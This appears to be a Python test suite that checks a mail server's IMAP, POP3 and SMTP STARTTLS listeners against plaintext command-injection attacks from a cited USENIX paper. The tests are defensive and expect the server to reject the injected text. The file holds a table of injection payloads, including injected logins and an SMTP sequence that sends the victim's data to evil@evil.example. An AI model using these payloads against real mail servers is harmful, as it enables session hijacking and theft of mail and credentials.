"""STARTTLS injection at Gatepost's listeners ("Why TLS Is Better Without STARTTLS", USENIX Security 2021): what an attacker puts
before the handshake must not count after it."""

import base64
import re
import subprocess
import sys

from world import PASSWORD, USER, Lines

SUITE = "starttls injection"

LISTENERS = {
    "imap-starttls": "imap",
    "pop3-starttls": "pop3",
    "smtp-starttls": "smtp",
    "submission-starttls": "smtp",
}
STARTTLS = {"imap": "s STARTTLS\r\n", "pop3": "STLS\r\n", "smtp": "STARTTLS\r\n"}
ACCEPTED = {"imap": "s OK", "pop3": "+OK", "smtp": "220"}

# The reply to a probe shows whether the session began afresh: command, and the beginning of the reply's last line.
PROBE = {"imap": ("probe NOOP\r\n", "probe OK"), "pop3": ("QUIT\r\n", "+OK"), "smtp": ("NOOP\r\n", "250")}

PLAIN = base64.b64encode(f"\0{USER}\0{PASSWORD}".encode()).decode()

# What an attacker adds behind STARTTLS in plain text.
INJECTED = {
    "a command": {"imap": "evil NOOP\r\n", "pop3": "CAPA\r\n", "smtp": "EHLO evil\r\n"},
    "a half command": {"imap": "evil NO", "pop3": "CA", "smtp": "NO"},
    "a lone line end": {"imap": "\r\n", "pop3": "\r\n", "smtp": "\r\n"},
    # The victim would continue in the attacker's mailbox.
    "a login": {
        "imap": f"evil LOGIN {USER} {PASSWORD}\r\n",
        "pop3": f"USER {USER}\r\nPASS {PASSWORD}\r\n",
        "smtp": f"EHLO evil\r\nAUTH PLAIN {PLAIN}\r\n",
    },
    # What the victim sends next would become the attacker's data.
    "a login that goes on": {
        "imap": f"evil LOGIN {USER} {{20}}\r\n",
        "pop3": "AUTH PLAIN\r\n",
        "smtp": "EHLO evil\r\nAUTH LOGIN\r\n",
    },
    "STARTTLS again": {"imap": "evil STARTTLS\r\n", "pop3": "STLS\r\n", "smtp": "STARTTLS\r\n"},
    "a message": {
        "imap": "evil APPEND INBOX {300}\r\n",
        "pop3": "CAPA\r\nCAPA\r\n",
        "smtp": f"EHLO evil\r\nMAIL FROM:<{USER}>\r\nRCPT TO:<evil@evil.example>\r\nDATA\r\n",
    },
}


def opened(world, name):
    """A connection up to the place where STARTTLS belongs."""
    protocol = LISTENERS[name]
    connection = world.connect(name)
    lines = Lines(connection)
    greeting = lines.line()
    if protocol == "smtp":
        lines.send("EHLO client\r\n")
        lines.until(lambda line: line.startswith("250 "))
    return connection, lines, greeting


def handshake(world, connection):
    return world.client_tls().wrap_socket(connection, server_hostname="localhost")


def honest(world, name):
    """STARTTLS without an attacker works, so that the refusals prove something."""
    protocol = LISTENERS[name]
    connection, lines, _ = opened(world, name)
    with connection:
        lines.send(STARTTLS[protocol])
        if not (reply := lines.line()).startswith(ACCEPTED[protocol]):
            return f"STARTTLS: {reply}"
        command, beginning = PROBE[protocol]
        inside = Lines(handshake(world, connection))
        inside.send(command)
        reply = inside.line()
        return None if reply and reply.startswith(beginning) else f"inside TLS: {reply}"


def injected(world, name, text, apart):
    """The session ends, or goes on as if the text had not been there."""
    protocol = LISTENERS[name]
    connection, lines, _ = opened(world, name)
    with connection:
        if apart:
            lines.send(STARTTLS[protocol])
            reply = lines.line()
            try:
                lines.send(text)
            except OSError:
                return None
        else:
            lines.send(STARTTLS[protocol] + text)
            reply = lines.line()
        if reply is None or not reply.startswith(ACCEPTED[protocol]):
            return None
        if lines.rest:
            return f"answered in plain text behind the reply: {lines.rest}"
        try:
            stream = handshake(world, connection)
        except OSError:
            return None
        inside = Lines(stream)
        command, beginning = PROBE[protocol]
        try:
            inside.send(command)
            reply = inside.line()
        except OSError:
            return None
        if reply is None or reply.startswith(beginning) and not inside.rest:
            return None
        return f"inside TLS: {reply}, {inside.rest}"


def before(world, name):
    """What was said before TLS is forgotten with it (RFC 3207 §4.2): a session begins afresh."""
    protocol = LISTENERS[name]
    connection, lines, _ = opened(world, name)
    with connection:
        if protocol == "pop3":
            lines.send(f"USER {USER}\r\n")
            lines.line()
        lines.send(STARTTLS[protocol])
        if not (reply := lines.line()).startswith(ACCEPTED[protocol]):
            return f"STARTTLS: {reply}"
        inside = Lines(handshake(world, connection))
        commands = {
            "imap": ("evil SELECT INBOX\r\n", ("evil BAD", "evil NO")),
            "pop3": (f"PASS {PASSWORD}\r\n", ("-ERR",)),
            "smtp": (f"MAIL FROM:<{USER}>\r\n", ("5",)),
        }
        command, refusals = commands[protocol]
        inside.send(command)
        reply = inside.line()
        return None if reply is None or reply.startswith(refusals) else f"{command.strip()}: {reply}"


def twice(world, name):
    """STARTTLS inside TLS is refused."""
    protocol = LISTENERS[name]
    connection, lines, _ = opened(world, name)
    with connection:
        lines.send(STARTTLS[protocol])
        lines.line()
        inside = Lines(handshake(world, connection))
        if protocol == "smtp":
            inside.send("EHLO client\r\n")
            if any("STARTTLS" in line for line in inside.until(lambda line: line.startswith("250 "))):
                return "offered inside TLS"
        inside.send(STARTTLS[protocol])
        reply = inside.line()
        return f"inside TLS: {reply}" if reply and reply.startswith(ACCEPTED[protocol]) else None


def plain_login(world, name):
    """A password without TLS is not accepted, and not offered."""
    protocol = LISTENERS[name]
    connection, lines, greeting = opened(world, name)
    with connection:
        command = {
            "imap": f"s LOGIN {USER} {PASSWORD}\r\n",
            "pop3": f"USER {USER}\r\n",
            "smtp": f"AUTH PLAIN {PLAIN}\r\n",
        }[protocol]
        lines.send(command)
        reply = lines.line() or ""
        if reply.startswith(("s OK", "+OK", "235", "334")):
            return f"{command.split()[0]}: {reply}"
        if protocol == "imap" and "LOGINDISABLED" not in greeting:
            return f"the greeting lacks LOGINDISABLED: {greeting}"
        return None


def tester(world, results):
    """The tool of the paper's authors."""
    command = [str(sys.executable), str(sys.executable).replace("bin/python", "bin/command-injection-tester")]
    for name, protocol in LISTENERS.items():
        port = str(world.ports[name])
        output = subprocess.run(
            [*command, "--nocolor", "--timeout", "1", "--logdir", str(world.directory / "logs")]
            + [f"--{protocol}", f"--{protocol}-port", port, "localhost"],
            capture_output=True,
            text=True,
        ).stdout
        good = "Sanity test done" in output and re.search("Probably no command injection|TLS handshake failed", output)
        bad = re.search("(Possible command|Probable command|Command) injection.*|error.*", output)
        problem = bad[0] if bad else None if good else f"no verdict: {output}"
        results.note("command-injection-tester", name, problem)


def run(world, _, results):
    tester(world, results)
    for name, protocol in LISTENERS.items():
        results.run(SUITE, f"{name}: honest", honest, world, name)
        for case, texts in INJECTED.items():
            for apart in (False, True):
                how = "in another segment" if apart else "in one segment"
                results.run(SUITE, f"{name}: {case}, {how}", injected, world, name, texts[protocol], apart)
        results.run(SUITE, f"{name}: a fresh session", before, world, name)
        results.run(SUITE, f"{name}: inside TLS", twice, world, name)
        results.run(SUITE, f"{name}: a login without TLS", plain_login, world, name)
